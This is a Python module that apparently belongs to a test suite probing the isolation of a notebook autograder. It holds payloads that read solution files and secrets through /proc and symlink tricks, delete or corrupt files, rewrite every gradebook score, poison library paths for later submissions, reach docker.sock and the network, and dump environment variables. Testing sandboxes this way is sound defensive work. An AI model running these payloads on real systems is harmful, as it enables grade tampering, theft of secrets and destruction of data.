"""Attacks on the host's files, and by the network."""

from attack_suite.attack import own_cell

FILES = """
targets = [
    "@HOME@/diary.txt", "@SHARED@/notes.txt", "@COURSE@/gradebook.db", "@COURSE@/.grading_seed",
    "@COURSE@/nbgrader_config.py", "@COURSE@/submitted/honest_right/SET/SET.ipynb",
    "@COURSE@/solutions/SET/SET.ipynb", "@PROJECT@/reference_impl/two_layer.py",
]
targets = [path.replace("SET", "ps06_two_layer_example") for path in targets]
""".strip()
READ = f"""
import os
{FILES}
ways = ["", "/proc/self/root", "/proc/1/root", "/proc/@HOST@/root", "/proc/self/cwd/../../../.."]
for path in targets:
    for way in ways:
        try:
            print("contents:", open(way + path, "rb").read(2000))
        except OSError:
            pass
for folder in ("@HOME@", "@COURSE@/submitted", "@SHARED@", "@PROJECT@"):
    try:
        print("contents:", os.listdir(folder))
    except OSError:
        pass
"""
BY_LINKS = f"""
import os, shutil
{FILES}
for number, path in enumerate(targets):
    for make in (os.symlink, os.link, shutil.copy, os.rename):
        name = f"{{make.__name__}}{{number}}"
        try:
            make(path, name)
            print("contents:", open(name, "rb").read(2000))
        except OSError:
            pass
"""
WRITE = f"""
import os, shutil
{FILES}
ways = (
    lambda path: open(path, "w").write("mine"),
    lambda path: open(path, "a").write("mine"),
    lambda path: os.truncate(path, 0),
    lambda path: os.open(path, os.O_RDONLY | os.O_TRUNC),
    lambda path: os.replace(path, "mine"),
    lambda path: os.unlink(path),
    lambda path: os.chmod(path, 0o000),
    lambda path: os.utime(path, (0, 0)),
    lambda path: os.chown(path, 12345, 12345),
    lambda path: open(os.path.dirname(path) + "/mine", "w").close(),
    lambda path: shutil.rmtree(os.path.dirname(path)),
)
for path in targets:
    for way in ways:
        try:
            way(path)
        except OSError:
            pass
"""
GRADEBOOK = """
import sqlite3
for path in ("@COURSE@/gradebook.db", "file:@COURSE@/gradebook.db?mode=rw"):
    try:
        with sqlite3.connect(path, uri=True) as book:
            book.execute("UPDATE grade SET auto_score = 6, manual_score = 6")
    except sqlite3.Error:
        pass
"""
POISON = """
import json, numpy, os, site, sys
folders = [os.path.dirname(m.__file__) for m in (numpy, json, os)] + sys.path
for folder in folders:
    for name in ("sitecustomize.py", "numpy.py", "autograder.py", "x.pth", "__pycache__/x.pyc"):
        for way in (open, os.mkdir):
            try:
                way(*((f"{folder}/{name}", "w") if way is open else (f"{folder}/mine",)))
            except OSError:
                pass
"""
POISONED = """
import os
if os.path.exists("/tmp/left-by-the-last-one") or os.path.exists("left-by-the-last-one"):
    open("@SHARED@/alive", "w").close()
for name in ("/tmp/left-by-the-last-one", "left-by-the-last-one", "/dev/shm/left"):
    try:
        open(name, "w").close()
    except OSError:
        pass
"""
NETWORK = """
import socket, urllib.request
ways = (
    lambda: socket.create_connection(("127.0.0.1", @PORT@), timeout=1).send(b"hello"),
    lambda: socket.create_connection(("localhost", @PORT@), timeout=1).send(b"hello"),
    lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=1),
    lambda: socket.getaddrinfo("example.org", 80),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", @PORT@)),
    lambda: socket.socket(socket.AF_INET6).connect(("::1", @PORT@)),
    lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"),
    lambda: socket.socket(socket.AF_UNIX).connect("\\0abstract"),
    lambda: socket.create_server(("0.0.0.0", 0)),
    lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0),
    lambda: socket.socket(fileno=3).connect(("127.0.0.1", @PORT@)),
)
for way in ways:
    try:
        way()
    except OSError:
        pass
"""
DESCRIPTORS = """
import os
for number in range(3, 1024):
    try:
        print("contents:", number, os.readlink(f"/proc/self/fd/{number}"), os.pread(number, 99, 0))
    except OSError:
        pass
"""

ATTACKS = (
    own_cell("reads files", "secrets", READ),
    own_cell("reads files by links", "secrets", BY_LINKS),
    own_cell("writes files", "the host", WRITE),
    own_cell("edits the gradebook", "the marks", GRADEBOOK),
    own_cell("poisons the libraries", "the next submission", POISON),
    own_cell("leaves something", "the next submission", POISONED),
    own_cell("finds what was left", "the next submission", POISONED),
    own_cell("uses the network", "the outside", NETWORK),
    own_cell("looks for descriptors", "secrets", DESCRIPTORS),
    own_cell(
        *("looks at the environment", "secrets"),
        "import os\nprint('contents:', dict(os.environ))\nopen('/proc/self/environ').read()",
    ),
)
